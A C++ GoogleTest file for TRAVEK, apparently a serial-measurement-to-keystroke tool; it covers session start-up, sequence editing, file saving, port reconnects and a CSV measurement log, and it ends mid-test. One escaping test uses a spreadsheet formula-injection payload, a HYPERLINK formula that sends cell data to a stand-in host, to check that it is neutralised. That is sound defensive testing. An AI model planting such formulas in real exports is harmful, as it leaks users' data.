#include "core/session/Session.h"
#include "core/session/SessionView.h"
#include "core/text/Error.h"
#include "core/typing/KeyOutput.h"
#include "support/FakeEventLoop.h"
#include "support/FakeFocusWindow.h"
#include "support/FakeSerialDevice.h"
#include "support/TempDir.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <array>
#include <deque>
#include <filesystem>
#include <regex>

using namespace travek;
using namespace std::chrono_literals;
using testing::ElementsAre;
using testing::HasSubstr;

namespace {

// Shows nothing: keeps what the session reports and answers its dialogs from the test's script.
class FakeView : public SessionView {
public:
    void setPanelText(int panel, const std::string& text) override { panels.at(static_cast<std::size_t>(panel)) = text; }
    void setActiveText(const std::string& text) override { active = text; }
    void setCaption(const std::string& text) override { caption = text; }
    void showSeriesCount(const std::string& text) override { seriesCount = text; }
    void showSeriesString(const std::string& text) override { seriesString = text; }
    void showServiceOutput(const std::string& text) override { serviceOutput = text; }
    void setCurrentCell(int col, int row) override { cell = {col, row}; }
    void beginGridUpdate() override { ++gridUpdates; }
    void endGridUpdate() override {}
    void showError(const std::string& text) override { errors.push_back(text); }
    void beep() override { ++beeps; }
    void showNotice(const std::string& text) override { notice = text; }
    std::string chooseSequenceFile(bool save) override {
        fileDialogs.push_back(save);
        if (files.empty()) {
            ADD_FAILURE() << "unexpected file dialog";
            return {};
        }
        std::string file = files.front();
        files.pop_front();
        return file;
    }
    bool runChannelDialog(ChannelChoice& choice) override { return ask(channelDialog, choice); }
    bool runKeyActionDialog(KeyActionList& list) override { return ask(keyDialog, list); }
    bool runSeriesCountDialog(const SeriesCountInput& input, int& value) override {
        return ask(countDialog, input, value);
    }
    bool runInterfaceDialog(const InterfaceChoice& choice, int& row) override { return ask(interfaceDialog, choice, row); }
    bool runComPortDialog(ComPortChoice& choice) override { return ask(comPortDialog, choice); }
    bool runTargetWindowDialog(TargetWindowChoice& choice) override { return ask(targetDialog, choice); }

    std::array<std::string, 6> panels;
    std::string active = "-", caption, seriesCount = "[ ]", seriesString, serviceOutput, notice;
    std::pair<int, int> cell{-1, -1};
    int gridUpdates = 0;
    int beeps = 0;
    std::vector<std::string> errors;
    std::deque<std::string> files;
    std::vector<bool> fileDialogs;
    std::function<bool(ChannelChoice&)> channelDialog;
    std::function<bool(KeyActionList&)> keyDialog;
    std::function<bool(const SeriesCountInput&, int&)> countDialog;
    std::function<bool(const InterfaceChoice&, int&)> interfaceDialog;
    std::function<bool(ComPortChoice&)> comPortDialog;
    std::function<bool(TargetWindowChoice&)> targetDialog;

private:
    // One answer per script: a dialog that the test did not expect fails the test.
    template <typename Script, typename... Args> static bool ask(Script& script, Args&... args) {
        if (!script) {
            ADD_FAILURE() << "unexpected dialog";
            return false;
        }
        Script once = std::move(script);
        script = nullptr;
        return once(args...);
    }
};

class CountingKeys : public KeyOutput {
public:
    void SendKeys(std::string_view keys) override {
        if (!failure.empty())
            throw Error(failure);
        texts.emplace_back(keys);
    }
    void setKeyDelay(int milliseconds) override { keyDelay = milliseconds; }
    std::vector<std::string> texts;
    std::string failure;
    int keyDelay = -1;
};

std::string stepsFile(int count) {
    std::string text;
    for (int i = 1; i <= count; ++i)
        text += std::to_string(i) + "\t" + std::to_string(i) + "\tk" + std::to_string(i) + ";\r\n";
    return text;
}

// A definition for a box on COM1 with four channels, chosen by TRAVEK.INI.
constexpr const char* BoxDefinition = "[PARAMETER]\r\nCOMx=1\r\nCNTCH=4\r\nMW_SIGN1=A:\r\nMW_SIGN3=C:\r\n"
                                      "MWI_SIGN1=E1\r\nMWI_SIGN3=E3\r\n";

class SessionTest : public ::testing::Test {
protected:
    void SetUp() override {
        dir.enter();
        device->clock = [this] { return static_cast<long long>(loop.now().count()); };
    }

    Session& open(char separator = ';') {
        session = std::make_unique<Session>(view, loop, separator, std::make_unique<test::FakeSerialDevice>(device));
        session->setKeyOutput(&keys);
        session->open();
        return *session;
    }
    void writeBox() {
        dir.write("TRAVEK.INI", "[PARAMETER]\r\nINTERFACE=BOX\r\nNK=2\r\n");
        dir.write("BOX.VAL", BoxDefinition);
    }
    void fillSteps(std::initializer_list<std::pair<const char*, const char*>> steps) {
        int row = 1;
        for (const auto& [channel, keyString] : steps) {
            session->grid().setCell(1, row, channel);
            session->grid().setCell(2, row++, keyString);
        }
    }
    ProgramState& state() { return session->state(); }
    SequenceTable& sequence() { return session->sequence(); }

    test::TempDir dir;
    FakeView view;
    test::FakeEventLoop loop;
    std::shared_ptr<test::FakeSerialDevice::Log> device = std::make_shared<test::FakeSerialDevice::Log>();
    CountingKeys keys;
    std::unique_ptr<Session> session;
};

TEST_F(SessionTest, OpensWithNinetyNineEmptyStepsOrTheSavedSequenceAndSeriesSettings) {
    open();
    EXPECT_EQ(view.caption, "TRAVEK v1.01");
    EXPECT_EQ(session->grid().rowCount(), 100);
    EXPECT_EQ(session->grid().cell(0, 99), "99");
    EXPECT_EQ(session->grid().cell(2, 0), "Taste(n)");
    EXPECT_EQ(view.panels[2], "0");
    EXPECT_EQ(view.panels[3], "1");
    EXPECT_EQ(view.cell, std::make_pair(1, 1));
    EXPECT_EQ(view.seriesCount, "[ ]");

    // Without ablauf.abl the series file is not read.
    dir.write("ablauf.pst", "12\r\nx;\r\n");
    open();
    EXPECT_EQ(state().Series.ValXCount, 0);

    dir.write("ablauf.abl", stepsFile(5));
    dir.write("ablauf.pst", "12\r\n{ENTER};\r\n");
    open();
    EXPECT_EQ(session->grid().rowCount(), 6);
    EXPECT_EQ(view.seriesCount, "[12]");
    EXPECT_EQ(view.seriesString, "{ENTER};");
    EXPECT_EQ(sequence().StepCount, 5);
    EXPECT_EQ(sequence().StepKeys[3], "k3;");
    EXPECT_EQ(view.panels[2], "5");

    // A bad series file is reported once; the grid is loaded and the sequence follows it.
    dir.write("ablauf.abl", stepsFile(3));
    dir.write("ablauf.pst", "zwoelf\r\nx;\r\n");
    view.seriesCount = "[ ]";
    open();
    EXPECT_THAT(view.errors, ElementsAre("ablauf.pst: Ung\xFCltige numerische Eingabe"));
    EXPECT_EQ(sequence().StepCount, 3);
    EXPECT_EQ(view.seriesCount, "[ ]");
}

TEST_F(SessionTest, EditingACellAsksTheDialogOfItsColumnAndRestartsTheSequence) {
    open();
    session->channels().setChannelCount(5);
    fillSteps({{"1", "a;{TAB};"}, {"2", ""}});
    sequence().CurrentStep = 2;

    view.channelDialog = [](ChannelChoice& choice) {
        choice.select(2);
        return true;
    };
    session->editCell(1, 3);
    EXPECT_EQ(session->grid().cell(1, 3), "3");
    EXPECT_EQ(view.active, "Init Interface notwendig");
    EXPECT_EQ(sequence().StepCount, 3);
    EXPECT_EQ(sequence().StepChannel[3], 3);
    EXPECT_EQ(sequence().CurrentStep, 1);
    EXPECT_EQ(view.panels[2], "3");

    // Cancelled: the cell stays, the sequence starts again all the same.
    view.active = "Active";
    sequence().CurrentStep = 2;
    view.channelDialog = [](ChannelChoice& choice) {
        choice.select(4);
        return false;
    };
    session->editCell(1, 2);
    EXPECT_EQ(session->grid().cell(1, 2), "2");
    EXPECT_EQ(view.active, "Active");
    EXPECT_EQ(sequence().CurrentStep, 1);
    // The choice is offered again next time.
    view.channelDialog = [](ChannelChoice& choice) {
        EXPECT_EQ(choice.selected(), 4);
        choice.select(-1);
        return true;
    };
    session->editCell(1, 1);
    EXPECT_EQ(session->grid().cell(1, 1), "0");

    view.keyDialog = [](KeyActionList& list) {
        EXPECT_THAT(list.entries(), ElementsAre("a", "{TAB}"));
        list.add(2, 0); // {ENTER} after "a"
        return true;
    };
    session->editCell(2, 1);
    EXPECT_EQ(session->grid().cell(2, 1), "a;{ENTER};{TAB};");
    EXPECT_EQ(sequence().StepKeys[1], "a;{ENTER};{TAB};");
    view.keyDialog = [](KeyActionList& list) {
        list.remove(0);
        return false;
    };
    session->editCell(2, 1);
    EXPECT_EQ(session->grid().cell(2, 1), "a;{ENTER};{TAB};");

    // The header and the step numbers ask nothing.
    session->editCell(1, 0);
    session->editCell(0, 2);
}

TEST_F(SessionTest, TheKeyListSplitsWithTheProgramsSeparator) {
    open('|');
    fillSteps({{"1", "1.5|x|"}});
    view.keyDialog = [](KeyActionList& list) {
        EXPECT_THAT(list.entries(), ElementsAre("1.5", "x"));
        list.add(0, -1);
        return true;
    };
    session->editCell(2, 1);
    EXPECT_EQ(session->grid().cell(2, 1), "1.5|x|{LEFT}|");
}

TEST_F(SessionTest, InsertingAndDeletingRowsMoveTheStepsAndKeepTheRowCount) {
    open();
    fillSteps({{"1", "a;"}, {"2", "b;"}, {"3", ""}, {"4", ""}, {"5", "e;"}, {"6", "f;"}, {"7", "g;"}});
    session->grid().setCell(1, 99, "99");
    session->insertRow(2, 5);
    EXPECT_EQ(session->grid().cell(1, 5), "");
    EXPECT_EQ(session->grid().cell(2, 6), "e;");
    EXPECT_EQ(session->grid().cell(1, 8), "7");
    EXPECT_EQ(session->grid().cell(0, 8), "8");
    EXPECT_EQ(session->grid().cell(1, 99), ""); // the last row is lost
    EXPECT_EQ(view.cell, std::make_pair(2, 5));
    // Only the grid changed; the running copy follows at the next double-click.
    EXPECT_EQ(sequence().StepCount, 0);

    session->grid().setCell(1, 99, "x");
    session->deleteRow(1, 1);
    EXPECT_EQ(session->grid().cell(1, 1), "2");
    EXPECT_EQ(session->grid().cell(2, 1), "b;");
    EXPECT_EQ(session->grid().cell(1, 98), "x");
    EXPECT_EQ(session->grid().cell(1, 99), "");
    EXPECT_EQ(session->grid().cell(0, 1), "1");
    session->deleteRow(2, 99);
    EXPECT_EQ(session->grid().cell(1, 99), "");
    EXPECT_EQ(view.cell, std::make_pair(2, 99));
    EXPECT_EQ(session->grid().rowCount(), 100);

    // Outside the steps nothing moves.
    session->insertRow(1, 0);
    session->deleteRow(1, 100);
    EXPECT_EQ(session->grid().cell(1, 1), "2");
}

TEST_F(SessionTest, ASavedSequenceComesBackWithItsSeriesFileFromTheWorkingDirectory) {
    open();
    std::filesystem::create_directory(dir.file("Messung"));
    fillSteps({{"2", "1.5{TAB};"}, {"3", "{ENTER};"}});
    state().Series.ValXCount = 4;
    state().Series.SeriesString = "{F2};";

    view.files = {""}; // cancelled
    session->saveSequence();
    EXPECT_FALSE(std::filesystem::exists(dir.file("ablauf.abl")));

    view.files = {dir.file("Messung/probe.abl")};
    session->saveSequence();
    EXPECT_EQ(dir.read("Messung/probe.abl").substr(0, 32), "1\t2\t1,5{TAB};\r\n2\t3\t{ENTER};\r\n3\t\t");
    EXPECT_EQ(dir.read("probe.abl.pst"), "4\r\n{F2};\r\n");
    EXPECT_FALSE(std::filesystem::exists(dir.file("Messung/probe.abl.pst")));
    EXPECT_EQ(session->grid().cell(2, 1), "1.5{TAB};"); // only the file has the comma

    state().Series.ValXCount = 9;
    state().Series.SeriesString = "y;";
    session->grid().setCell(1, 1, "7");
    view.files = {dir.file("Messung/probe.abl")};
    session->loadSequence(2, 50);
    EXPECT_EQ(session->grid().cell(1, 1), "2");
    EXPECT_EQ(session->grid().cell(2, 1), "1,5{TAB};");
    EXPECT_EQ(state().Series.ValXCount, 4);
    EXPECT_EQ(view.seriesCount, "[4]");
    EXPECT_EQ(view.seriesString, "{F2};");
    EXPECT_EQ(view.cell, std::make_pair(2, 50));
    EXPECT_THAT(view.fileDialogs, ElementsAre(true, true, false));
    // Loading changes only the grid; the running copy waits for the next double-click.
    EXPECT_EQ(sequence().StepCount, 0);
}

TEST_F(SessionTest, LoadingReplacesTheSeriesSettingsEvenWhenTheSeriesFileIsMissingOrBad) {
    dir.write("short.abl", stepsFile(2));
    dir.write("long.abl", stepsFile(120));
    dir.write("probe.abl", stepsFile(2));
    dir.write("probe.abl.pst", "abc\r\nx;\r\n");
    open();
    state().Series.ValXCount = 5;
    state().Series.SeriesString = "z;";
    view.files = {dir.file("short.abl")};
    session->loadSequence(2, 50);
    EXPECT_EQ(session->grid().rowCount(), 3);
    EXPECT_EQ(state().Series.ValXCount, 0);
    EXPECT_EQ(state().Series.SeriesString, "");
    EXPECT_EQ(view.seriesCount, "[0]");
    EXPECT_EQ(view.cell, std::make_pair(2, 2)); // the current row stays inside the shorter grid

    // More rows than a sequence has steps: refused, naming the file, and nothing changes.
    state().Series.ValXCount = 7;
    view.files = {dir.file("long.abl")};
    session->loadSequence(1, 1);
    EXPECT_EQ(session->grid().rowCount(), 3);
    EXPECT_EQ(state().Series.ValXCount, 7);
    EXPECT_THAT(view.errors, ElementsAre(dir.file("long.abl") + ": mehr als 99 Zeilen"));
    view.errors.clear();

    state().Series.ValXCount = 6;
    view.files = {dir.file("probe.abl")};
    session->loadSequence(1, 1);
    EXPECT_THAT(view.errors, ElementsAre("probe.abl.pst: Ung\xFCltige numerische Eingabe"));
    EXPECT_EQ(state().Series.ValXCount, 0);
    EXPECT_EQ(view.seriesCount, "[0]");
}

TEST_F(SessionTest, AWriteErrorOnSaveIsShownOnceAndTruncatesNothing) {
    open();
    fillSteps({{"1", "a;"}});
    state().Series.ValXCount = 2;
    // A folder in the way of the sequence file: the grid save fails, the series file stays old.
    std::filesystem::create_directory(dir.file("blocked.abl"));
    dir.write("blocked.abl.pst", "7\r\nalt;\r\n");
    view.files = {dir.file("blocked.abl")};
    session->saveSequence();
    EXPECT_EQ(view.errors.size(), 1u);
    EXPECT_EQ(dir.read("blocked.abl.pst"), "7\r\nalt;\r\n");

    // A folder in the way of the series file: the sequence file is written.
    dir.write("probe.abl", "alt\r\n");
    std::filesystem::create_directory(dir.file("probe.abl.pst"));
    view.files = {dir.file("probe.abl")};
    session->saveSequence();
    EXPECT_EQ(view.errors.size(), 2u);
    EXPECT_EQ(dir.read("probe.abl").substr(0, 8), "1\t1\ta;\r\n");
}

TEST_F(SessionTest, TheSeriesCountAndStringAreEditedThroughTheirDialogs) {
    open();
    state().Series.ValueCounter = 3;
    view.countDialog = [](const SeriesCountInput& input, int& value) {
        EXPECT_EQ(input.text(), "0");
        value = SeriesCountInput::valueOf(" 1 0");
        return true;
    };
    session->editSeriesCount();
    EXPECT_EQ(state().Series.ValXCount, 10);
    EXPECT_EQ(view.seriesCount, "[10]");
    view.countDialog = [](const SeriesCountInput&, int& value) {
        value = 25;
        return false;
    };
    session->editSeriesCount();
    EXPECT_EQ(state().Series.ValXCount, 10);
    EXPECT_EQ(state().Series.ValueCounter, 3);

    state().Series.SeriesString = "{ENTER};";
    view.keyDialog = [](KeyActionList& list) {
        EXPECT_THAT(list.entries(), ElementsAre("{ENTER}"));
        for (int i = 0; i < 20; ++i) // no limit for the series string
            list.add(3, -1);
        return true;
    };
    session->editSeriesString();
    EXPECT_EQ(state().Series.SeriesString.size(), 8u + 20 * 6);
    EXPECT_EQ(view.seriesString, state().Series.SeriesString);
}

TEST_F(SessionTest, StartUpActivatesTheBoxOneChannelCommandEveryHundredMilliseconds) {
    writeBox();
    dir.write("ablauf.abl", "1\t3\t{TAB};\r\n2\t1\t{TAB};\r\n3\t3\t{ENTER};\r\n");
    open();
    session->scheduleStartUp();
    session->scheduleStartUp(); // once
    loop.advance(99ms);
    EXPECT_EQ(device->opens, 0);
    loop.advance(1ms);
    EXPECT_EQ(view.caption, "TRAVEK v1.01  BOX");
    EXPECT_EQ(view.panels[0], "COM 1");
    EXPECT_EQ(view.panels[1], "BOX");
    EXPECT_EQ(state().NK, 2);
    EXPECT_EQ(keys.keyDelay, 0) << "full speed unless KEYDELAY says otherwise";
    EXPECT_EQ(session->channels().entries().size(), 4u);
    // The disable-all command and the first channel command go at once; the window stays alive
    // while the box switches each channel on.
    EXPECT_EQ(device->written, "D0\rE1\r");
    EXPECT_EQ(view.active, "Init");
    EXPECT_TRUE(session->activating());
    loop.advance(99ms);
    EXPECT_EQ(device->written, "D0\rE1\r");
    loop.advance(1ms);
    EXPECT_EQ(device->written, "D0\rE1\rE3\r");
    EXPECT_EQ(view.serviceOutput, "E3\r");
    EXPECT_EQ(view.active, "Init");
    loop.advance(100ms);
    EXPECT_EQ(view.active, "Active");
    EXPECT_FALSE(session->activating());
    ASSERT_EQ(device->writes.size(), 3u);
    EXPECT_EQ(device->writes[2].second - device->writes[1].second, 100);
    EXPECT_EQ(loop.pendingTasks(), 0u);
}

TEST_F(SessionTest, ASecondInitStartsOverAndClosingThePortStopsTheActivation) {
    writeBox();
    dir.write("ablauf.abl", "1\t1\t{TAB};\r\n2\t3\t{TAB};\r\n");
    open();
    session->startUp();
    EXPECT_EQ(device->written, "D0\rE1\r");
    loop.advance(50ms);
    session->initInterface();
    EXPECT_EQ(device->written, "D0\rE1\rD0\rE1\r");
    loop.advance(99ms);
    EXPECT_EQ(device->written, "D0\rE1\rD0\rE1\r") << "the first run's pause ended with it";
    loop.advance(1ms);
    EXPECT_EQ(device->written, "D0\rE1\rD0\rE1\rE3\r");

    session->initInterface();
    session->portLost();
    EXPECT_EQ(view.panels[0], "COM ?");
    EXPECT_EQ(view.active, "Comport ??");
    loop.advance(500ms);
    EXPECT_EQ(view.active, "Comport ??");
    EXPECT_FALSE(session->activating());

    // "Init Interface" needs an open port.
    device->open = false;
    session->port().ClosePort();
    session->initInterface();
    EXPECT_EQ(view.active, "Comport ??");
}

TEST_F(SessionTest, APortThatDoesNotOpenIsReportedAndLeavesThePortUnknown) {
    writeBox();
    dir.write("TRAVEK.INI", "[PARAMETER]\r\nINTERFACE=BOX\r\nKEYDELAY=5\r\n");
    device->openable = false;
    open();
    session->startUp();
    EXPECT_THAT(view.errors, ElementsAre("COM1 Error"));
    EXPECT_EQ(keys.keyDelay, 5);
    EXPECT_EQ(view.panels[0], "COM ?");
    EXPECT_EQ(view.active, "Comport ??");
}

TEST_F(SessionTest, ChoosingAPortStoresItInTheDefinitionFileAndReopens) {
    writeBox();
    open();
    session->startUp();
    loop.advance(1s);
    view.comPortDialog = [](ComPortChoice& choice) {
        EXPECT_EQ(choice.selected(), 0);
        choice.select(11);
        return true;
    };
    session->choosePort();
    EXPECT_THAT(dir.read("BOX.VAL"), HasSubstr("COMx=12\r\n"));
    EXPECT_EQ(device->openedIndex, 11);
    EXPECT_EQ(view.panels[0], "COM 12");

    // Cancelled: nothing changes.
    view.comPortDialog = [](ComPortChoice& choice) {
        choice.select(3);
        return false;
    };
    session->choosePort();
    EXPECT_THAT(dir.read("BOX.VAL"), HasSubstr("COMx=12\r\n"));

    // A definition file that cannot be written is reported with its full name; the choice
    // stands for the port that is opened now: what the file holds.
    state().Definition.InterfaceName = "nodir/X";
    view.comPortDialog = [](ComPortChoice& choice) {
        choice.select(4);
        return true;
    };
    session->choosePort();
    ASSERT_FALSE(view.errors.empty());
    EXPECT_EQ(view.errors.front(), "Kann nicht nach " + dir.path() + "/nodir/X.VAL schreiben");
}

TEST_F(SessionTest, ChoosingAnInterfaceLoadsItsDefinitionOrKeepsTheName) {
    writeBox();
    dir.write("SCALE.val", "[PARAMETER]\r\nCNTCH=6\r\nCOMx=1\r\n");
    open();
    session->startUp();
    view.interfaceDialog = [](const InterfaceChoice& choice, int& row) {
        EXPECT_EQ(choice.entries().size(), 2u);
        row = 1;
        return true;
    };
    session->chooseInterface();
    EXPECT_EQ(state().Definition.InterfaceName, "SCALE");
    EXPECT_EQ(view.caption, "TRAVEK v1.01  SCALE");
    EXPECT_EQ(view.panels[0], "DONE");
    EXPECT_EQ(view.panels[1], "SCALE");
    EXPECT_EQ(session->channels().entries().size(), 6u);

    // Nothing chosen (no definition files): the name stays, or ".VAL" would be looked for.
    view.interfaceDialog = [](const InterfaceChoice&, int& row) {
        row = -1;
        return true;
    };
    session->chooseInterface();
    EXPECT_EQ(state().Definition.InterfaceName, "SCALE");
}

TEST_F(SessionTest, ShutDownSavesEachFileOnItsOwnOnceAndClosesThePort) {
    writeBox();
    open();
    session->startUp();
    std::filesystem::create_directory(dir.file("ablauf.abl")); // in the way of the sequence file
    state().Series.ValXCount = 5;
    session->shutDown(false);
    ASSERT_EQ(view.errors.size(), 1u);
    EXPECT_THAT(view.errors[0], testing::StartsWith("ablauf.abl: "));
    EXPECT_EQ(dir.read("ablauf.pst"), "5\r\n\r\n");
    EXPECT_THAT(dir.read("TRAVEK.INI"), HasSubstr("INTERFACE=BOX"));
    EXPECT_FALSE(session->port().IsPortOpen());
    session->shutDown(false);
    EXPECT_EQ(view.errors.size(), 1u);

    // Unattended, the errors go to standard error instead of a box. (Opening says at once that
    // the folder is in the way.)
    open();
    ASSERT_EQ(view.errors.size(), 2u);
    EXPECT_EQ(view.errors[1], "ablauf.abl: ein Ordner, keine Datei");
    testing::internal::CaptureStderr();
    session->shutDown(true);
    EXPECT_THAT(testing::internal::GetCapturedStderr(), testing::StartsWith("travek: ablauf.abl: "));
    EXPECT_EQ(view.errors.size(), 2u);
}

TEST_F(SessionTest, ReceivedLinesAreTypedAndALostDevicesHalfLineIsDropped) {
    writeBox();
    dir.write("ablauf.abl", "1\t1\t{TAB};\r\n");
    open();
    session->startUp();
    const std::string line = "A: 12,345\r";
    session->port().OnReceiveData(line.data(), static_cast<std::int32_t>(line.size()));
    EXPECT_THAT(keys.texts, ElementsAre("12,35", "{TAB}"));
    EXPECT_EQ(view.panels[4], "1 [OK]");
    EXPECT_EQ(view.panels[5], "A: 12,345");

    // The start of a line from a device that went away does not stick to the next device's first.
    const std::string cut = "A: 7,";
    session->port().OnReceiveData(cut.data(), static_cast<std::int32_t>(cut.size()));
    session->portLost();
    session->startUp();
    const std::string next = "A: 4,56\r";
    session->port().OnReceiveData(next.data(), static_cast<std::int32_t>(next.size()));
    EXPECT_THAT(keys.texts, ElementsAre("12,35", "{TAB}", "4,56", "{TAB}"));
}

TEST_F(SessionTest, AMissingKeyboardOrOneTheDesktopTookAwayIsShownAndTheLinesGoOn) {
    writeBox();
    dir.write("TRAVEK.INI", "[PARAMETER]\r\nINTERFACE=BOX\r\nNK=2\r\n[LOG]\r\nFILE=log.csv\r\n");
    dir.write("ablauf.abl", "1\t1\t{TAB};\r\n2\t1\t{ENTER};\r\n");
    open();
    session->startUp();
    keys.failure = "the desktop ended the keyboard session";
    const std::string line = "A: 1,5\r";
    session->port().OnReceiveData(line.data(), static_cast<std::int32_t>(line.size()));
    EXPECT_EQ(view.panels[5], keys.failure);
    EXPECT_EQ(view.notice, keys.failure);
    EXPECT_TRUE(view.errors.empty());

    keys.failure.clear();
    session->port().OnReceiveData(line.data(), static_cast<std::int32_t>(line.size()));
    EXPECT_THAT(keys.texts, ElementsAre("1,50", "{ENTER}"));
    EXPECT_EQ(view.notice, "");
    // Without any keyboard the panel says why from the start, and again after every line.
    session->setKeyOutput(nullptr, "Keystrokes cannot be typed: no desktop");
    EXPECT_EQ(view.panels[5], "Keystrokes cannot be typed: no desktop");
    EXPECT_EQ(view.notice, "Keystrokes cannot be typed: no desktop");
    session->port().OnReceiveData(line.data(), static_cast<std::int32_t>(line.size()));
    EXPECT_EQ(view.panels[5], "Keystrokes cannot be typed: no desktop");

    // The measurement log does not claim the values that never arrived.
    const std::string log = dir.read("log.csv");
    EXPECT_NE(log.find(";1;1;A: 1,5;;nicht getippt: the desktop ended the keyboard session;\r\n"), std::string::npos)
        << log;
    EXPECT_NE(log.find(";1;2;A: 1,5;1,50;;\r\n"), std::string::npos) << log;
    EXPECT_NE(log.find(";;nicht getippt: Keystrokes cannot be typed: no desktop;\r\n"), std::string::npos) << log;
}

} // namespace

namespace {

TEST_F(SessionTest, ALostPortIsTriedAgainEverySecondAndTheSequenceGoesOn) {
    writeBox();
    dir.write("ablauf.abl", "1\t1\t{TAB};\r\n2\t1\t{ENTER};\r\n");
    open();
    session->startUp();
    loop.advance(1s);
    const std::string first = "A: 1,00\r";
    session->port().OnReceiveData(first.data(), static_cast<std::int32_t>(first.size()));
    EXPECT_EQ(sequence().CurrentStep, 2);

    // The adapter is pulled: the driver closes the port and says so.
    device->open = false;
    device->openable = false;
    session->port().ClosePort();
    session->portLost();
    const int opensBefore = device->opens;
    loop.advance(3s);
    EXPECT_EQ(device->opens, opensBefore + 3) << "once a second, quietly";
    EXPECT_TRUE(view.errors.empty());
    EXPECT_EQ(view.active, "Comport ??");

    // Plugged in again: the settings and the channel commands go out as at "Init Interface".
    device->openable = true;
    device->written.clear();
    device->settings = SerialSettings{};
    loop.advance(1s);
    EXPECT_TRUE(session->port().IsPortOpen());
    EXPECT_EQ(view.panels[0], "COM 1");
    EXPECT_EQ(device->written, "D0\rE1\r");
    EXPECT_EQ(device->settings.speed, br9600);
    loop.advance(100ms);
    EXPECT_EQ(view.active, "Active");
    EXPECT_FALSE(session->reconnecting());
    const std::string next = "A: 2,00\r";
    session->port().OnReceiveData(next.data(), static_cast<std::int32_t>(next.size()));
    EXPECT_THAT(keys.texts, ElementsAre("1,00", "{TAB}", "2,00", "{ENTER}"));

    // The user's own choice of port ends the waiting for the old one.
    device->open = false;
    device->openable = false;
    session->port().ClosePort();
    session->portLost();
    view.comPortDialog = [](ComPortChoice& choice) {
        choice.select(1);
        return true;
    };
    session->choosePort();
    EXPECT_FALSE(session->reconnecting());
    const int opensAfterChoice = device->opens;
    loop.advance(5s);
    EXPECT_EQ(device->opens, opensAfterChoice);
}

TEST_F(SessionTest, TheMeasurementLogHasARowForEveryLineWithWhyNothingWasTyped) {
    writeBox();
    dir.write("TRAVEK.INI", "[PARAMETER]\r\nINTERFACE=BOX\r\nNK=2\r\n[LOG]\r\nFILE=messung.csv\r\n");
    dir.write("BOX.VAL", std::string(BoxDefinition) + "STARTPOS=4\r\nENDPOS=12\r\n");
    dir.write("ablauf.abl", "1\t1\t{TAB};\r\n");
    open();
    session->startUp();
    const std::string lines = "C: 1,5\rA: ERR\rA: 2,5\r";
    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
    EXPECT_THAT(keys.texts, ElementsAre("2,50", "{TAB}"));

    const std::string log = dir.read("messung.csv");
    const std::regex rows("Zeit;Port;Kanal;Schritt;Zeile;Getippt;Hinweis;Fenster\r\n"
                          "\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3};COM1;3;1;C: 1,5;;Schritt 1 erwartet Kanal 1;\r\n"
                          "[-0-9T:.]+;COM1;1;1;A: ERR;;keine Zahl im Wert;\r\n"
                          "[-0-9T:.]+;COM1;1;1;A: 2,5;2,50;;\r\n");
    EXPECT_TRUE(std::regex_match(log, rows)) << log;

    // A log that cannot be written is said once; the values are still typed.
    dir.write("TRAVEK.INI", "[PARAMETER]\r\nINTERFACE=BOX\r\nNK=2\r\n[LOG]\r\nFILE=nicht/da.csv\r\n");
    session->startUp();
    testing::internal::CaptureStderr();
    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
    const std::string said = testing::internal::GetCapturedStderr();
    EXPECT_THAT(said, testing::StartsWith("travek: Protokoll nicht/da.csv: "));
    EXPECT_EQ(std::count(said.begin(), said.end(), '\n'), 1) << said;
    EXPECT_EQ(keys.texts.size(), 6u);
    // The line panel moves on with the next line; the notice stays while the log fails.
    EXPECT_THAT(view.notice, testing::StartsWith("Protokoll nicht/da.csv: "));
    EXPECT_NE(view.panels[5].find("A: 2,5"), std::string::npos);

    // Once the log can be written, the notice goes; and the next outage is news again.
    std::filesystem::create_directory(dir.file("nicht"));
    testing::internal::CaptureStderr();
    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
    EXPECT_EQ(view.notice, "");
    std::filesystem::remove(dir.file("nicht/da.csv"));
    std::error_code inUse;
    std::filesystem::create_directory(dir.file("nicht/da.csv"), inUse);
    if (inUse) {
        testing::internal::GetCapturedStderr();
        GTEST_SKIP() << "here a file that is open cannot give its name to a folder";
    }
    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
    EXPECT_EQ(testing::internal::GetCapturedStderr(), "travek: Protokoll nicht/da.csv: ein Ordner, keine Datei\n");
}

TEST(MeasurementLog, FieldsAreQuotedAndLinesEscapedSoEachRowStaysOneRow) {
    EXPECT_EQ(MeasurementLog::field("1,5"), "1,5");
    EXPECT_EQ(MeasurementLog::field("a;b"), "\"a;b\"");
    EXPECT_EQ(MeasurementLog::field("say \"x\""), "\"say \"\"x\"\"\"");
    EXPECT_EQ(MeasurementLog::escapeLine("\nA:\t1\\2\x7F"), "\\x0AA:\\x091\\\\2\\x7F");
    EXPECT_EQ(MeasurementLog::escapeLine("Gr\xF6\xDF" "e"), "Gr\xF6\xDF" "e");
    // A text that a spreadsheet would compute shows as text; a typed value stays a number.
    EXPECT_EQ(MeasurementLog::textField("=HYPERLINK(\"http://e.x/?\"&A1)"), "\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1)\"");
    for (const char* formula : {"=1+1", "+1", "-1", "@SUM(A1)", "\t1", "\r1"})
        EXPECT_EQ(MeasurementLog::textField(formula), "\"'" + std::string(formula) + "\"") << formula;
    EXPECT_EQ(MeasurementLog::textField("A: 1,5"), "A: 1,5");
    EXPECT_EQ(MeasurementLog::field("-1,234"), "-1,234");
}

} // namespace

// Folders named like TRAVEK's files: each is refused with its name, the rest of the start-up and
// of the exit go on, and nothing ends the program.
TEST_F(SessionTest, AFolderInTheWayOfAFileIsRefusedByNameAndTheRestGoesOn) {
    dir.write("ablauf.abl", "1\t1\t{TAB};\r\n");
    std::filesystem::create_directory(dir.file("ablauf.pst"));
    std::filesystem::create_directory(dir.file("TRAVEK.INI"));
    std::filesystem::create_directory(dir.file("ALT.VAL"));
    open();
    // The definition list holds regular files only, so it is empty, and that is heard at once.
    EXPECT_EQ(view.beeps, 1);
    EXPECT_THAT(view.errors, ElementsAre("ablauf.pst: ein Ordner, keine Datei"));
    EXPECT_EQ(session->grid().cell(2, 1), "{TAB};");
    session->startUp();
